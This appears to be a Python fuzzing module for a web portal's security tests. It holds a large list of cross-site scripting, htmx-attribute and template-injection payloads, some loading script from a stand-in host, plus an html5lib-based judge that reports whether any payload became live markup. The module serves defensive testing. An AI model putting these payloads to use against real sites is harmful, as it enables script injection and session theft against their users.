"""Texts that try to become markup, and a judge that sees whether one did (security.md F02).

Every payload holds the mark, so that wherever it turns up as a tag, an attribute or an address, it is seen.
"""

from __future__ import annotations

import html
import itertools
import random
import re
from collections.abc import Sequence
from xml.etree.ElementTree import Element

import html5lib

MARK = "kpxss"
RUN = f"window.{MARK}=1"
"""What a payload would run: a test in a real browser looks whether it did."""

ELEMENTS = (
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script src=//{mark}.invalid/x.js></script>",
    "<img src=x onerror={run}>", "<IMG SRC=x OnErRoR={run}>", "<img/src=x/onerror={run}>",
    "<svg onload={run}>", "<svg><script>{run}</script></svg>", "<svg><a xlink:href=javascript:{run}><text>{mark}",
    "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><foreignObject><body onload={run}>",
    "<math><mtext><img src=x onerror={run}></mtext></math>", "<math href=javascript:{run}>{mark}</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={run}>",
    "<iframe src=javascript:{run}></iframe>", "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<body onload={run}>", "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>", "<details open ontoggle={run}>", "<video><source onerror={run}>",
    "<audio src=x onerror={run}>", "<object data=javascript:{run}>", "<embed src=javascript:{run}>",
    "<link rel=stylesheet href=//{mark}.invalid/x.css>", "<meta http-equiv=refresh content=0;url=//{mark}.invalid>",
    "<base href=//{mark}.invalid/>", "<form action=//{mark}.invalid><button>{mark}</button></form>",
    "<button formaction=javascript:{run}>{mark}</button>", "<a href=javascript:{run}>{mark}</a>",
    "<a href='java&#9;script:{run}'>{mark}</a>", "<style>*{{background:url(//{mark}.invalid)}}</style>",
    "<div style=background:url(//{mark}.invalid)>", "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<marquee onstart={run}>",
    "<div hx-get=/{mark} hx-trigger=load></div>", "<div data-hx-get=/{mark} data-hx-trigger=load></div>",
    "<div hx-on:load={run}></div>", "<div hx-vals='js:{{a:{run}}}' hx-post=/{mark}></div>",
    "<div hx-swap-oob=true id={mark}>{mark}</div>", "<dialog open onclose={run}>{mark}",
    "<{mark}-element onclick={run}>",
)  # fmt: skip
BREAKS = ("", '">', "'>", "</textarea>", "</title>", "</option></select>", "-->", "</script>")
"""What would end what stands around the text."""
LOOSE = (
    '" onmouseover="{run}" x="', "' onmouseover='{run}' x='", '" autofocus onfocus="{run}', "` onclick=`{run}`",
    "x onclick={run} ", '" hx-get="/{mark}" hx-trigger="load', '" style="background:url(//{mark}.invalid)',
    "javascript:{run}//", "JaVaScRiPt:{run}", "data:text/html,<script>{run}</script>", "vbscript:{run}",
    "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}&#60;/script&#62;", "<!--<img src=x onerror={run}>-->",
    "<![CDATA[<script>{run}</script>]]>", "<?php echo '{mark}'; ?>", "<%= {mark} %>", "${{{run}}}", "#{{{run}}}",
    "{{{{ {mark} }}}}", "{{% import os %}}{mark}", "{{{{ ''.__class__.__mro__ }}}}{mark}", "{{# {mark} #}}",
    "[{mark}](javascript:{run})", "![{mark}](//{mark}.invalid/x.png)", "`{mark}`",
    "#import {mark}", "\\u003cscript\\u003e{mark}",
    "\u202e{mark}\u202c", "{mark}\u2028{run}", "＜script＞{run}＜/script＞",
    "<\u200bscript>{run}", "%3Cscript%3E{run}%3C/script%3E",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-", "<scr<script>ipt>{run}</scr</script>ipt>",
    "%(name)s {mark}", "{{0.__class__}} {mark}",
)  # fmt: skip


def _filled(text: str) -> str:
    return text.format(run=RUN, mark=MARK)


PAYLOADS: tuple[str, ...] = (
    *(_filled(element) for element in ELEMENTS),
    *(before + _filled(ELEMENTS[place % len(ELEMENTS)]) for place, before in enumerate(BREAKS[1:] * 24)),
    *map(_filled, LOOSE),
)
"""Several hundred texts; `tests/definitions/test_fuzz_hostile.py` counts them."""

REACHING = frozenset(
    {"href", "src", "action", "formaction", "srcdoc", "style", "id", "class", "for", "name", "srcset", "content"}
)
"""Attributes that lead somewhere or steer something: no text of a definition ever stands in one."""
NEVER = frozenset(
    {"iframe", "object", "embed", "style", "base", "math", "audio", "video", "marquee", "foreignobject", "animate"}
)
"""Elements that no page of the portal has."""


class Words:
    """Hands out texts for a definition: plain ones, or payloads one after the other so that each gets its turn."""

    def __init__(self, seed: random.Random, payloads: Sequence[str] = ()) -> None:
        self.seed = seed
        self.payloads = itertools.cycle(seed.sample(payloads, len(payloads))) if payloads else None

    def say(self, plain: str) -> str:
        """This text, or a payload in its place."""
        return plain if self.payloads is None else next(self.payloads)


WRITTEN = re.compile(
    r"""<(?: !doctype\ html> | /[a-z][a-z0-9-]*> | (?P<tag>[a-z][a-z0-9-]*) (?P<attributes>(?:\s+ [a-z][a-z0-9-]*
    (?:="[^"]*" | =[^\s"'<>=`]+)? )*) \s*/?> )""",
    re.IGNORECASE | re.VERBOSE,
)
"""A tag as the templates write it: whatever else begins with `<` may be read otherwise by a browser."""
ATTRIBUTE = re.compile(r"""([a-z][a-z0-9-]*)(?:="([^"]*)"|=([^\s"'<>=`]+))?""", re.IGNORECASE)


def faults(markup: str) -> list[str]:
    """What a payload became other than text: an element, an attribute, an address, a script."""
    return [] if _plainly_clean(markup) else parsed_faults(markup)


def _plainly_clean(markup: str) -> bool:
    """Whether every `<` begins a harmless tag as the templates write it: then no browser finds another one.

    It costs a tenth of the parser that `parsed_faults` uses; what it doubts goes there.
    """
    tags = list(WRITTEN.finditer(markup))
    return len(tags) == markup.count("<") and all(_is_harmless(tag["tag"], tag["attributes"]) for tag in tags)


def _is_harmless(tag: str | None, attributes: str | None) -> bool:
    if tag is None:
        return True
    if tag.lower() == "script" or tag.lower() in NEVER or MARK in tag.lower():
        return False
    return not any(_is_at_fault(name.lower(), html.unescape(one or other)) for name, one, other in _read(attributes))


def _read(attributes: str | None) -> list[tuple[str, str, str]]:
    return ATTRIBUTE.findall(attributes or "")


def parsed_faults(markup: str) -> list[str]:
    """The same, from the parser of a browser."""
    found: list[str] = []
    for element in html5lib.parse(markup, namespaceHTMLElements=False, scripting=True).iter():
        if isinstance(element.tag, str):
            found += _of_element(element)
        elif MARK in (element.text or ""):
            found.append("a text of a definition stands in a comment")
    return found


def _of_element(element: Element) -> list[str]:
    tag = _local(element.tag)
    found = [f"<{tag}> is on the page"] if tag in NEVER or MARK in tag else []
    if tag == "script" and (element.text or not str(element.get("src", "")).startswith("/static/")):
        found.append("an inline or foreign script is on the page")
    for key, value in element.attrib.items():
        name = _local(str(key))
        if _is_at_fault(name, value):
            found.append(f"<{tag} {name}={value[:60]!r}>")
    return found


def _is_at_fault(name: str, value: str) -> bool:
    """Whether an attribute runs something, or leads where a payload says."""
    steers = name in REACHING or name.startswith(("on", "hx-", "data-hx-", "xlink"))
    return MARK in name or bool(re.match(r"on[a-z]+$", name)) or (steers and MARK in value)


def _local(name: str) -> str:
    return name.rpartition("}")[2].lower()
